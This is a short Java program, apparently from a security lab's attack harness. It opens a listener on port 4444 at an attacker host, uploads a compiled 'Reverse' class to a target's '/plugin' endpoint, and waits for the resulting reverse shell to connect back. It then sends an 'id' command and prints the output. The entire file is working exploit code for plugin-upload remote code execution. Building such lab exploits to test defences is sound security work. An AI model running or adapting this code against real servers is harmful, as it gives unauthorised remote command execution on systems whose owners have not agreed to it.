import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import whorl.lab.attack.Attacker;

public class Attack {
  public static void main(String[] args) throws Exception {
    try (ServerSocket server = new ServerSocket(4444, 1, InetAddress.getByName(Attacker.HOST))) {
      server.setSoTimeout(20_000);
      Attacker.post("/plugin", Attacker.classBytes(Reverse.class));
      try (Socket socket = server.accept()) {
        socket.getOutputStream().write(("id; " + Attacker.touch() + "\n").getBytes());
        System.out.println(new String(socket.getInputStream().readAllBytes()));
      }
    }
    Attacker.done();
  }
}
